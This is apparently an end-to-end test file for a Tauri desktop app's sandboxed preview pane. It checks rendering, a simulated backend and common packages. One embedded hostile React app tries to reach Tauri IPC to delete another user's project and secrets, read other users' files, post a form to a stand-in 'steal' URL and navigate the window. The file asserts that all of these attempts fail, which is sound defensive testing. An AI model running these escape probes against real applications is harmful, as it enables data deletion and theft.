// End to end (issue 8): a generated React project renders in the sandboxed preview pane, and a
// generated app that attacks the shell runs no command, reads no other user's project and
// cannot navigate the window. Each test has its own LLM server, home, keyring and window.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import {
  By,
  click,
  configuredHome,
  eventually,
  generateProject,
  goTo,
  invokeFromMain,
  launchFor,
  saveFailures,
  screenshot,
  serverFor,
  until,
} from "./driver.mjs";
import { COUNTER_FILES, TODO_CONTRACT, TODO_FILES } from "./projects.mjs";
import { projectScript, startMoto, startScriptedLlm } from "./servers.mjs";

const LLM_KEY = "sk-e2e-preview-0c7e5f13";

saveFailures(import.meta.url);

const ATTACK_APP = `import { useEffect, useState } from 'react';

async function attempt(name, action) {
  try {
    const result = await action();
    return name + ': went through (' + JSON.stringify(result) + ')';
  } catch (e) {
    return name + ': failed (' + (e && e.message ? e.message : String(e)) + ')';
  }
}

export default function App() {
  const [log, setLog] = useState([]);
  useEffect(() => {
    (async () => {
      const victim = { slug: 'victim-app', force: true };
      const results = [
        await attempt('own __TAURI_INTERNALS__', () => window.__TAURI_INTERNALS__.invoke('project_delete', victim)),
        await attempt('parent __TAURI_INTERNALS__', () => window.parent.__TAURI_INTERNALS__.invoke('project_delete', victim)),
        await attempt('top __TAURI_INTERNALS__', () => window.top.__TAURI_INTERNALS__.invoke('settings_save_all', { settings: {}, secrets: [] })),
        await attempt('parent secret_delete', () => window.parent.__TAURI_INTERNALS__.invoke('secret_delete', { slot: { kind: 'storage_secret_key' } })),
        await attempt('fetch ipc://localhost', () => fetch('ipc://localhost/project_delete', { method: 'POST', body: JSON.stringify(victim), headers: { 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2' } }).then((r) => r.status)),
        await attempt('fetch http://ipc.localhost', () => fetch('http://ipc.localhost/project_delete', { method: 'POST', body: JSON.stringify(victim) }).then((r) => r.status)),
        await attempt('WebKit message handler', () => { window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: 'project_delete', callback: 1, error: 2, payload: victim })); return 'posted'; }),
        // A computed specifier, so the request reaches the preview server as written.
        await attempt("another user's project", () => { const stolen = ['', 'victim', 'victim-app', 'src', 'App.jsx'].join('/'); return import(stolen).then((m) => Object.keys(m)); }),
        // The simulated backends' path: another user's, and the record of this project.
        await attempt("another user's backend", () => fetch('/__bucketforge/api/victim/victim-app/api/todos').then((r) => r.status)),
        await attempt('the project record through the backend', () => fetch('http://localhost:8000/.bucketforge/manifest.json').then((r) => r.text())),
        await attempt('vendored files by fetch', () => fetch('/__bucketforge/vendor/react.js').then((r) => r.status)),
        // A form may fire its submit event, but never send anything anywhere.
        await attempt('form submission', () => { const f = document.createElement('form'); f.method = 'post'; f.action = 'https://example.com/steal'; const i = document.createElement('input'); i.name = 'x'; i.value = 'y'; f.append(i); document.body.append(f); f.submit(); return 'asked'; }),
        await attempt('top-level navigation', () => { window.top.location.href = 'https://example.com/'; return 'asked'; }),
      ];
      setLog(results);
    })();
  }, []);
  return (
    <main>
      <h1>Attack app</h1>
      <pre id="attempts">{log.join('\\n')}</pre>
      {log.length > 0 && <p id="done">done</p>}
    </main>
  );
}
`;

/** A React-only app: a form adds notes, kept in localStorage; the page says what Vite's env says. */
const NOTES_APP = `import { useState } from 'react';

const API = import.meta.env.VITE_API_URL ?? 'http://localhost:8000';
const load = () => JSON.parse(localStorage.getItem('notes') ?? '[]');

export default function App() {
  const [notes, setNotes] = useState(load);
  const [text, setText] = useState('');
  const add = (event) => {
    event.preventDefault();
    const next = [...notes, text];
    localStorage.setItem('notes', JSON.stringify(next));
    setNotes(load());
    setText('');
    alert('Saved ' + text);
  };
  const clear = () => {
    if (!confirm('Delete every note?')) return;
    localStorage.removeItem('notes');
    setNotes(load());
  };
  return (
    <main className="p-4">
      <p id="mode">{import.meta.env.MODE}, API at {API}</p>
      <form onSubmit={add}>
        <label>Note <input name="note" value={text} onChange={(e) => setText(e.target.value)} /></label>
        <button type="submit" className="bg-blue-600 text-white px-3 py-1">Add</button>
      </form>
      <ul id="notes">{notes.map((n, i) => <li key={i}>{n}</li>)}</ul>
      <button type="button" id="clear" onClick={clear}>Clear</button>
      <p id="stored">{localStorage.getItem('notes')}</p>
      <p id="arbitrary" className="w-[137px] mt-[7px]">sized</p>
    </main>
  );
}
`;

/**
 * An app on the packages generated React apps import most: two routes with react-router-dom's
 * BrowserRouter, an icon, a date, an id, a persisted store, class names; and a screen whose
 * module imports a package the preview lacks.
 */
const PACKAGES_APP = `import { BrowserRouter, Routes, Route, Link } from 'react-router-dom';
import { CheckCircle } from 'lucide-react';
import clsx from 'clsx';
import { format } from 'date-fns';
import { v4 as uuid } from 'uuid';
import { create } from 'zustand';
import { persist } from 'zustand/middleware';

const useCount = create(persist((set) => ({ n: 0, add: () => set((s) => ({ n: s.n + 1 })) }), { name: 'count' }));

function Home() {
  const { n, add } = useCount();
  return (
    <section id="home">
      <h1>Home</h1>
      <button id="add" className={clsx('btn', n > 0 && 'active')} onClick={add}>Added {n}</button>
      <Link to="/about" id="to-about">About</Link>
    </section>
  );
}

function About() {
  return (
    <section id="about">
      <h1>About</h1>
      <p id="facts">{format(new Date(2024, 0, 2), 'd MMMM yyyy')}, id of {uuid().length} characters</p>
      <CheckCircle id="icon" aria-label="done" />
      <Link to="/" id="to-home">Home</Link>
      <button id="chart" onClick={() => import('./Chart.jsx')}>Chart</button>
    </section>
  );
}

export default function App() {
  return (
    <BrowserRouter>
      <Routes>
        <Route path="/" element={<Home />} />
        <Route path="/about" element={<About />} />
      </Routes>
    </BrowserRouter>
  );
}
`;

/** Types into a field of the sandboxed frame: WebKit's driver can't focus it by itself. */
async function typeInFrame(app, field, text) {
  await click(app, field);
  await app.actions().sendKeys(text).perform();
}

async function openPreview(app, slug) {
  await goTo(app, "Projects");
  await click(app, await app.wait(until.elementLocated(By.css(`[data-testid=project-row][data-slug=${slug}]`)), 20_000));
  await click(app, await app.wait(until.elementLocated(By.xpath("//button[normalize-space()='Preview']")), 20_000));
  const frame = await app.wait(until.elementLocated(By.css("[data-testid=preview-frame]")), 20_000);
  // As a user scrolls to the pane: a click inside the frame scrolls only the frame's own page.
  await app.executeScript("arguments[0].scrollIntoView({ block: 'start' })", frame);
  return frame;
}

describe("the preview pane", () => {
  let moto;

  before(async () => {
    moto = await startMoto();
  });

  after(async () => moto?.stop());

  /** A home set up for moto and a scripted LLM of the test's own that writes `files`. */
  async function homeWriting(t, name, files) {
    const llm = await serverFor(t, startScriptedLlm(projectScript({ name, files, apiKey: LLM_KEY })));
    return configuredHome(moto, llm.openaiBaseUrl, LLM_KEY);
  }

  it("renders the generated React app, from S3, and it works", async (t) => {
    const home = await homeWriting(t, "Click Counter", COUNTER_FILES);
    generateProject(home, ["--idea", "A click counter", "--name", "Click Counter"]);
    const { app } = await launchFor(t, { name: "preview", home });
    const frame = await openPreview(app, "click-counter");
    assert.equal(await frame.getAttribute("sandbox"), "allow-scripts allow-forms");
    await app.switchTo().frame(frame);
    const button = await app.wait(until.elementLocated(By.xpath("//button[normalize-space()='Clicked 0 times']")), 30_000);
    assert.equal(await app.findElement(By.css("h1")).getText(), "Click Counter");
    await click(app, button);
    await app.wait(until.elementLocated(By.xpath("//button[normalize-space()='Clicked 1 times']")), 5_000);
    await app.switchTo().defaultContent();
    assert.ok(await app.findElement(By.css("[data-testid=preview-frame]")).isDisplayed());
    await screenshot(app, "preview-desktop");

    await click(app, await app.findElement(By.xpath("//*[@aria-label='Screen width']//button[starts-with(normalize-space(), 'Phone')]")));
    const width = await eventually(async () => {
      const w = await app.executeScript("return document.querySelector('[data-testid=preview-frame]').getBoundingClientRect().width");
      return w <= 400 ? w : null;
    }, "the phone width");
    assert.ok(width > 300, `phone width ${width}`);
    await screenshot(app, "preview-phone");
  });

  it("runs a full-stack app against its backend, simulated from the contract, and lists its requests", async (t) => {
    const llm = await serverFor(t, startScriptedLlm(projectScript({ name: "Todos", stack: "fastapi-react", contract: TODO_CONTRACT, files: TODO_FILES, apiKey: LLM_KEY })));
    const home = configuredHome(moto, llm.openaiBaseUrl, LLM_KEY);
    generateProject(home, ["--idea", "A to-do list", "--name", "Todos", "--stack", "fastapi-react"]);
    const { app } = await launchFor(t, { name: "preview-backend", home });
    let frame = await openPreview(app, "todos");
    // The app's list grows below the window: bring the whole frame into view first.
    await app.executeScript("arguments[0].scrollIntoView({ block: 'start' })", frame);
    await app.switchTo().frame(frame);
    // The custom endpoint answers its example.
    const stats = await app.wait(until.elementLocated(By.css("#stats")), 30_000);
    await app.wait(until.elementTextIs(stats, "3 in total, from the example"), 10_000);
    const todos = () => app.findElements(By.css("#todos li"));
    const add = async (title) => {
      await typeInFrame(app, await app.findElement(By.css("input[name=title]")), title);
      await click(app, await app.findElement(By.xpath("//button[normalize-space()='Add']")));
    };
    // Add (POST, then the list reloads), tick (PUT), remove (DELETE).
    await add("Buy milk");
    await app.wait(until.elementLocated(By.css("#todos li[data-id='1']")), 5_000);
    await add("Walk the dog");
    await app.wait(until.elementLocated(By.css("#todos li[data-id='2']")), 5_000);
    await click(app, await app.findElement(By.css("#todos li[data-id='1'] input[type=checkbox]")));
    await app.wait(until.elementLocated(By.css("#todos li[data-id='1'][data-done='true']")), 5_000);
    await click(app, await app.findElement(By.css("#todos li[data-id='2'] button")));
    await eventually(async () => ((await todos()).length === 1 ? true : null), "the removed task gone");
    assert.match(await (await todos())[0].getText(), /Buy milk/);
    assert.equal((await app.findElements(By.css("#error"))).length, 0);
    await app.switchTo().defaultContent();

    // The toolbar says what answers the app, and lists each request it made.
    const backend = await app.wait(until.elementLocated(By.css("[data-testid=preview-backend]")), 10_000);
    assert.match(await backend.getText(), /simulated from the app's API contract \(5 endpoints\)/);
    await click(app, await backend.findElement(By.xpath(".//button[starts-with(normalize-space(), 'Requests')]")));
    await app.wait(until.elementLocated(By.css("[data-testid=preview-calls]")), 5_000);
    const requests = await eventually(async () => {
      const text = String(await app.executeScript("return document.querySelector('[data-testid=preview-calls]')?.textContent ?? ''"));
      return text.includes("DELETE/api/todos/2") ? text : null;
    }, "the DELETE in the request panel", 10_000);
    for (const call of ["GET/api/stats200", "POST/api/todos200", "PUT/api/todos/1200", "DELETE/api/todos/2200"]) {
      assert.ok(requests.includes(call), `${call} in\n${requests}`);
    }
    await screenshot(app, "preview-fullstack");

    // Reset data: the app starts again, in a new frame, from an empty list.
    await click(app, await backend.findElement(By.xpath(".//button[normalize-space()='Reset data']")));
    await app.wait(until.stalenessOf(frame), 10_000);
    frame = await app.wait(until.elementLocated(By.css("[data-testid=preview-frame]")), 10_000);
    await app.executeScript("arguments[0].scrollIntoView({ block: 'start' })", frame);
    await app.switchTo().frame(frame);
    await app.wait(until.elementLocated(By.css("#stats")), 30_000);
    await add("Fresh start");
    await app.wait(until.elementLocated(By.css("#todos li[data-id='1']")), 5_000);
    assert.equal((await todos()).length, 1);
    await app.switchTo().defaultContent();
  });

  it("runs what every browser page has: a form's submit, localStorage, import.meta.env and Tailwind v4, arbitrary values included", async (t) => {
    const files = {
      ...COUNTER_FILES,
      "src/index.css": '@import "tailwindcss";\nbody { margin: 2rem; }\n',
      "src/App.jsx": NOTES_APP,
    };
    delete files["src/components/Title.jsx"];
    const home = await homeWriting(t, "Notes", files);
    generateProject(home, ["--idea", "Notes kept in the browser", "--name", "Notes"]);
    const { app } = await launchFor(t, { name: "preview-browser", home });
    const frame = await openPreview(app, "notes");
    await app.switchTo().frame(frame);
    // The default-stack prompt's base URL reads import.meta.env, as under Vite's dev server.
    const mode = await app.wait(until.elementLocated(By.css("#mode")), 30_000);
    assert.equal(await mode.getText(), "development, API at http://localhost:8000");
    await typeInFrame(app, await app.findElement(By.css("input[name=note]")), "Buy milk");
    await click(app, await app.findElement(By.css("button[type=submit]")));
    const saved = await app.wait(until.elementLocated(By.css("#notes li")), 5_000);
    assert.equal(await saved.getText(), "Buy milk");
    // Kept in localStorage, which a sandboxed frame doesn't have: read back from it.
    assert.equal(await app.findElement(By.css("#stored")).getText(), '["Buy milk"]');
    // alert shows in the pane rather than vanishing; confirm says what the preview answered.
    const saidSaved = await app.wait(until.elementLocated(By.css("#bucketforge-dialogs .bucketforge-dialog")), 5_000);
    assert.equal(await saidSaved.getText(), "Saved Buy milk");
    await click(app, await app.findElement(By.css("#clear")));
    await eventually(async () => ((await app.findElements(By.css("#notes li"))).length === 0 ? true : null), "the notes cleared after confirm");
    const dialogs = await app.findElement(By.css("#bucketforge-dialogs")).getText();
    assert.match(dialogs, /Delete every note\?\s+\(The preview answered OK\.\)/);
    // Tailwind's classes are styled (bg-blue-600 is rgb(37, 99, 235) in v3 and v4 alike).
    const colour = await eventually(async () => {
      const c = await app.executeScript("return getComputedStyle(document.querySelector('button[type=submit]')).backgroundColor");
      return c && c !== "rgba(0, 0, 0, 0)" ? c : null;
    }, "the Tailwind-styled button", 20_000);
    assert.match(colour, /37, 99, 235|oklch/);
    // Arbitrary values are built too, which is why the quality checks flag only `@apply`.
    const sized = await app.executeScript("const s = getComputedStyle(document.getElementById('arbitrary')); return [s.width, s.marginTop]");
    assert.deepEqual(sized, ["137px", "7px"]);
    await app.switchTo().defaultContent();
    await screenshot(app, "preview-browser-features");
  });

  it("runs the packages generated apps import: two routes, an icon, a date, an id, a store; and names one it lacks", async (t) => {
    const dependencies = { react: "^19", "react-dom": "^19", "react-router-dom": "^7", "lucide-react": "^1", clsx: "^2", "date-fns": "^4", uuid: "^14", zustand: "^5", axios: "^1" };
    const files = {
      ...COUNTER_FILES,
      "package.json": JSON.stringify({ name: "packages", private: true, type: "module", scripts: { dev: "vite" }, dependencies, devDependencies: { vite: "^6.0.0", "@vitejs/plugin-react": "^4.3.4" } }, null, 2),
      "src/App.jsx": PACKAGES_APP,
      "src/Chart.jsx": "import axios from 'axios';\n\nexport default function Chart() {\n  return <p>{typeof axios}</p>;\n}\n",
    };
    delete files["src/components/Title.jsx"];
    const home = await homeWriting(t, "Packages", files);
    generateProject(home, ["--idea", "An app on the usual packages", "--name", "Packages"]);
    const { app } = await launchFor(t, { name: "preview-packages", home });
    const frame = await openPreview(app, "packages");
    await app.switchTo().frame(frame);
    // The first route, and a zustand store that persists to the pane's storage.
    const add = await app.wait(until.elementLocated(By.css("#home #add")), 30_000);
    await click(app, add);
    await app.wait(until.elementTextIs(add, "Added 1"), 5_000);
    assert.equal(await add.getAttribute("class"), "btn active");
    assert.equal(await app.executeScript("return localStorage.getItem('count')"), '{"state":{"n":1},"version":0}');
    // The second route, through a Link: a date from date-fns, a uuid, a lucide icon drawn as SVG.
    await click(app, await app.findElement(By.css("#to-about")));
    const facts = await app.wait(until.elementLocated(By.css("#about #facts")), 5_000);
    assert.equal(await facts.getText(), "2 January 2024, id of 36 characters");
    assert.equal(await app.findElements(By.css("#home")).then((found) => found.length), 0);
    const icon = await app.findElement(By.css("svg#icon"));
    assert.ok((await app.executeScript("return arguments[0].querySelectorAll('path, circle').length", icon)) > 0, "the icon has shapes");
    await click(app, await app.findElement(By.css("#to-home")));
    await app.wait(until.elementTextIs(await app.wait(until.elementLocated(By.css("#home #add")), 5_000), "Added 1"), 5_000);
    // A package outside the preview's list: the overlay names it and the file that imports it.
    await click(app, await app.findElement(By.css("#to-about")));
    await click(app, await app.wait(until.elementLocated(By.css("#chart")), 5_000));
    const overlay = await app.wait(until.elementLocated(By.css("#bucketforge-error pre")), 10_000);
    assert.match(await overlay.getText(), /src\/Chart\.jsx imports the package “axios”, which the preview can't load\. The preview includes react, react-dom, react-router-dom/);
    await app.switchTo().defaultContent();
    await screenshot(app, "preview-packages");
  });

  it("lets a hostile generated app run no command and read nothing of another user", async (t) => {
    const home = await homeWriting(t, "Attack", { ...COUNTER_FILES, "src/App.jsx": ATTACK_APP });
    generateProject(home, ["--idea", "An app that tries to escape", "--name", "Attack"]);
    // Another user's project, which the attack tries to read and to delete.
    generateProject(home, ["--idea", "A click counter", "--name", "Victim App", "--user", "victim"]);
    const { app } = await launchFor(t, { name: "preview-attack", home });
    const shellUrl = await app.getCurrentUrl();
    const before = (await invokeFromMain(app, "ipc_calls")).ok;
    const frame = await openPreview(app, "attack");
    await app.switchTo().frame(frame);
    await app.wait(until.elementLocated(By.css("#done")), 30_000);
    const attempts = await app.findElement(By.css("#attempts")).getText();
    await app.switchTo().defaultContent();
    console.log(`preview attack attempts:\n${attempts}`);
    await screenshot(app, "preview-attack");

    // Nothing the attack asked for ran: the shell counts every command that runs.
    const after = (await invokeFromMain(app, "ipc_calls")).ok;
    for (const command of ["project_delete", "settings_save_all", "secret_delete"]) {
      assert.equal(after[command] ?? 0, before[command] ?? 0, `${command} ran`);
    }
    assert.match(attempts, /another user's project: failed/);
    for (const name of ["another user's backend", "the project record through the backend", "vendored files by fetch"]) {
      assert.match(attempts, new RegExp(`${name}: failed`));
    }
    // The other user's project is all there, read with our own S3 client.
    assert.ok(moto.list("projects/victim/victim-app/").includes("projects/victim/victim-app/src/App.jsx"));
    // The window still shows BucketForge.
    assert.equal(await app.getCurrentUrl(), shellUrl);
    assert.equal(await app.findElement(By.css("nav[aria-label=Main]")).isDisplayed(), true);
  });
});
